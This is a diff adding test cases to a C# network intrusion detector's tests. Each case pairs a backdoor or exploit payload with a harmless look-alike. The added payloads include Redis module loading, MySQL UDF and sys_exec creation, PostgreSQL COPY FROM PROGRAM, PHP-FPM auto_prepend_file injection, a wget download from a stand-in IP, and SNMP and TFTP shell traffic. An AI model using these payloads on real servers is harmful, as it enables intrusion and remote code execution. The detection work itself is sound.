@@ -50,6 +50,8 @@ public class IndicatorPeekTests
     [InlineData("/bin/busybox MIRAI\r\n", "/bin/busybox ls\r\n", AppProtocol.Telnet)]
     [InlineData("DIST00000001ARGC00000008ARGV00000002shARGV00000002-cARGV00000002idARGV00000001#", "DIST00000001ARGC00000008ARGV00000003gccARGV00000002-c", AppProtocol.Unknown)]
     [InlineData("*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$15\r\n/var/spool/cron\r\n", "*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$14\r\n/var/lib/redis\r\n", AppProtocol.Redis)]
+    [InlineData("*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$6\r\nexp.so\r\n", "*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$10\r\ndbfilename\r\n$8\r\ndump.rdb\r\n", AppProtocol.Redis)]
+    [InlineData("*3\r\n$6\r\nmodule\r\n$4\r\nload\r\n$11\r\n/tmp/exp.so\r\n", "*3\r\n$6\r\nmodule\r\n$4\r\nload\r\n$30\r\n/usr/lib/redis/redisearch.so\r\n", AppProtocol.Redis)]
     [InlineData("*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n", "*3\r\n$3\r\nSET\r\n$4\r\npath\r\n$11\r\n/etc/config\r\n", AppProtocol.Redis)]
     [InlineData("{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"login\":\"48x\",\"pass\":\"x\",\"agent\":\"XMRig/6.21\"}}\n", "{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"login\",\"params\":{\"user\":\"ann\",\"pass\":\"x\"}}\n", AppProtocol.Unknown)]
     [InlineData("{\"method\":\"login\",\"params\":{\"login\":\"4BCe\",\"pass\":\"x\",\"agent\":\"xmr-stak-cpu/1.3\"},\"id\":1}\n", "{\"method\":\"login\",\"params\":{\"login\":\"anna\",\"pass\":\"x\"},\"id\":1,\"device\":\"telephone\"}\n", AppProtocol.Unknown)]
@@ -57,6 +59,12 @@ public class IndicatorPeekTests
     [InlineData("MAIL FROM:<;for i in 0 1;do read r;done;sh;exit 0;>\r\n", "MAIL FROM:<ann@shop.example> SIZE=1200\r\n", AppProtocol.Smtp)]
     [InlineData("RCPT TO:<${run{/bin/sh -c id}}@shop.example>\r\n", "RCPT TO:<\";odd\"@shop.example>\r\n", AppProtocol.Smtp)]
     [InlineData("Q\0\0\0HCOPY x FROM PROGRAM 'echo Y3Vy|base64 -d|bash';\0", "Q\0\0\0HCOPY x FROM PROGRAM 'gunzip -c /srv/prices.gz';\0", AppProtocol.PostgreSql)]
+    [InlineData("Q\0\0\0HCOPY x FROM PROGRAM 'id; uname -a';\0", "Q\0\0\0HSELECT 'id' FROM program WHERE copy = 1;\0", AppProtocol.PostgreSql)]
+    [InlineData("P\0\0\0\u0003select 0x7f454c46 into dumpfile '/usr/lib/mysql/plugin/u.so'", "P\0\0\0\u0003select picture from goods where id = 7 into dumpfile '/srv/goods/7.png'", AppProtocol.MySql)]
+    [InlineData("P\0\0\0\u0003create function sys_exec returns int soname 'u.so'", "P\0\0\0\u0003create function metaphon returns string soname 'udf_example.so'", AppProtocol.MySql)]
+    [InlineData("\x01\x04\0\x01\0\x40\0\0\x09PHP_VALUEauto_prepend_file = php://input", "\x01\x04\0\x01\0\x40\0\0\x09PHP_VALUEauto_prepend_file=/srv/www/wordfence-waf.php", AppProtocol.Unknown)]
+    [InlineData("system.run[wget http://203.0.113.9/x -O /tmp/x]\n", "system.run[df -h /var | tail -n 1]\n", AppProtocol.Unknown)]
+    [InlineData("PRIVMSG #x :uid=0(root) gid=0(root) groups=0(root)\r\n", "PRIVMSG #x :my uid=0(root) gid=0(root) looks odd, why?\r\n", AppProtocol.Irc)]
     [InlineData("158\0ll|'|'|SGFjS2Vk|'|'|DESK|'|'|ann", "158\0ll, said he: '|'", AppProtocol.Unknown)]
     public void Commands_of_backdoors_are_known_and_ordinary_ones_pass(string attack, string honest, AppProtocol application)
     {
@@ -315,5 +323,28 @@ public class IndicatorPeekTests
         Assert.Null(Look(Debugger("shell:getprop ro.product.model")));
         Assert.Equal("openwire", Look([0, 0, 0, 120, 31, .. new byte[10], .. "org.springframework.context.support.ClassPathXmlApplicationContext"u8, 1, 0, 30, .. "http://198.51.100.1/poc.xml"u8])!.Name);
         Assert.Null(Look([0, 0, 0, 120, 31, .. new byte[10], .. "java.lang.IllegalStateException: see http://activemq.example/ for what it means, and then"u8]));
+    }
+
+    [Theory]
+    [InlineData(0xA3, "/bin/sh", true)]
+    [InlineData(0xA3, "Printer in room 12", false)]
+    [InlineData(0xA0, "/bin/sh", false)]
+    public void An_snmp_set_request_that_names_a_shell_is_a_command(byte kind, string value, bool found)
+    {
+        byte[] text = Encoding.ASCII.GetBytes(value);
+        byte[] message = [0x30, (byte)(30 + text.Length), 2, 1, 1, 4, 7, .. "private"u8, kind, (byte)(16 + text.Length), .. new byte[16], .. text];
+        var state = new PeekState();
+        Assert.Equal(found, new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_000, 161, message) is Indicator { Name: "snmp-command" });
+    }
+
+    [Fact]
+    public void A_shell_speaks_by_udp_too_and_a_program_comes_by_tftp()
+    {
+        var state = new PeekState();
+        Assert.True(new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_999, 4053, "uid=0(root) gid=0(root) groups=0(root)\n"u8) is Indicator { Kind: IndicatorKind.Shell });
+        state = new PeekState();
+        Assert.True(new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_998, 4054, (byte[])[0, 3, 0, 1, 0x7F, .. "ELF"u8, 1, 2, 1, .. new byte[500]]) is Indicator { Kind: IndicatorKind.Program });
+        state = new PeekState();
+        Assert.Null(new PayloadPeek().Look(ref state, false, IpProtocol.Udp, 40_997, 4055, (byte[])[0, 3, 0, 1, .. "\n! configuration of switch 12\n"u8, .. new byte[480]]));
     }
 }
